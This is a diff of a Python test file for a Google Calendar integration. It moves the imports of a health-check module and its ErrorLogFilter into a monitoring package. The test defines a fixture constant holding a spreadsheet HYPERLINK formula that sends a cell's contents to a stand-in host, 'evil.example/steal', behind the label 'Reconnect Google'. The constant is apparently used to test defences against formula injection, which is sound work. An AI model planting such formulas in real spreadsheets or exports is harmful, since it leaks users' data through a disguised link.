@@ -11,10 +11,10 @@ import pytest
 from sqlmodel import Session, select
 
 from db.models import IntegrationLog
-from integrations import health
 from integrations.core.access import Actor
 from integrations.google_calendar import connection
-from integrations.health import ErrorLogFilter
+from integrations.monitoring import health
+from integrations.monitoring.health import ErrorLogFilter
 from tests.support.google_world import GoogleWorld
 
 FORMULA = '=HYPERLINK("https://evil.example/steal?x="&A1,"Reconnect Google")'
